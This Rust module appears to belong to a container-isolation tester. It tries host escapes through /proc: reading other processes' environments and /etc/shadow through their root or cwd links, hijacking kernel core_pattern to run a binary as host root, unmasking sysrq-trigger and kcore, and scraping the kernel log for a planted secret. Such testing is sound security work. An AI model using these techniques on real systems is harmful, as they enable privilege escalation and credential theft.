//! `/proc`: other processes, and what changes the host.

use std::fs::{self, File};
use std::io::Read;
use std::path::{Path, PathBuf};

use nix::sys::statfs::{PROC_SUPER_MAGIC, statfs};

use crate::facts::Facts;
use crate::mounts::{self, PLACE, uncover};
use crate::outcome::{Failure, Outcome, Step, any, refused};
use crate::secret;
use crate::sys::{Arg, call_into};

/// The processes that a `/proc` shows.
fn processes(proc: &str) -> Result<Vec<PathBuf>, Failure> {
    let entries = fs::read_dir(proc).step(proc)?.flatten();
    let number = |name: &std::ffi::OsStr| name.as_encoded_bytes().iter().all(u8::is_ascii_digit);
    Ok(entries
        .filter(|entry| number(&entry.file_name()))
        .map(|entry| entry.path())
        .collect())
}

/// In what this `/proc` shows, then in what a new one does.
fn in_any_proc(look: impl Fn(&str) -> Outcome) -> Outcome {
    let first = look("/proc");
    if first.is_ok() {
        return first;
    }
    let second = mounts::new("proc", None).and_then(|()| look(PLACE));
    any([first, second])
}

fn secret_of_any(proc: &str, files: &[&str]) -> Outcome {
    for process in processes(proc)? {
        for file in files {
            if let Ok(secret) = secret::at(process.join(file)) {
                return Ok(secret);
            }
        }
    }
    refused(format!("read {files:?} of processes"), "none is the host's")
}

/// The environment of a process of the host.
pub(crate) fn host_processes(_: &Facts) -> Outcome {
    in_any_proc(|proc| secret_of_any(proc, &["environ"]))
}

/// The host's files by way of the root or working directory of any process.
pub(crate) fn root(_: &Facts) -> Outcome {
    let files = ["root/etc/shadow", "cwd/etc/shadow", "root/../etc/shadow"];
    in_any_proc(|proc| secret_of_any(proc, &files))
}

/// What is run for a process that crashes, as the host's root.
pub(crate) fn core_pattern(_: &Facts) -> Outcome {
    let pattern = "|/usr/breakout/agent core";
    let path = "/proc/sys/kernel/core_pattern";
    mounts::then(
        || mounts::write(path, pattern),
        || mounts::writable("/proc/sys"),
    )
}

/// A file of `/proc` itself, not what is mounted over it.
fn proc_s_own(path: &Path) -> Result<(), Failure> {
    if statfs(path).step("statfs")?.filesystem_type() == PROC_SUPER_MAGIC {
        Ok(())
    } else {
        refused(path.display().to_string(), "it is masked")
    }
}

/// As it is, then with its mask taken away, then in a new `/proc`.
fn unmasked(name: &str, act: impl Fn(&Path) -> Outcome) -> Outcome {
    let masked = Path::new("/proc").join(name);
    let own = |path: &Path| proc_s_own(path).and_then(|()| act(path));
    let first = mounts::then(|| own(&masked), || uncover(&masked.to_string_lossy()));
    if first.is_ok() {
        return first;
    }
    let second = mounts::new("proc", None).and_then(|()| own(&Path::new(PLACE).join(name)));
    any([first, second])
}

/// `h` has the kernel list the commands in its log, and does nothing else.
pub(crate) fn sysrq(_: &Facts) -> Outcome {
    unmasked("sysrq-trigger", |path| mounts::write(path, "h"))
}

/// The machine's memory.
pub(crate) fn kcore(_: &Facts) -> Outcome {
    unmasked("kcore", |path| {
        let mut start = [0; 4];
        File::open(path)
            .and_then(|mut file| file.read_exact(&mut start))
            .step("read")?;
        Ok(format!("{start:?}"))
    })
}

/// The kernel's log, by syslog(2), in which the host has left a secret.
pub(crate) fn kernel_log(_: &Facts) -> Outcome {
    const READ_ALL: i64 = 3;
    let mut log = vec![0; 1 << 20];
    let size = Arg::Number(log.len() as i64);
    let length = call_into(
        libc::SYS_syslog,
        &[Arg::Number(READ_ALL), size],
        1,
        &mut log,
    )
    .step("syslog")?;
    match secret::find(&log[..length]) {
        Some(secret) => Ok(secret),
        None => refused("syslog", "no secret in it"),
    }
}
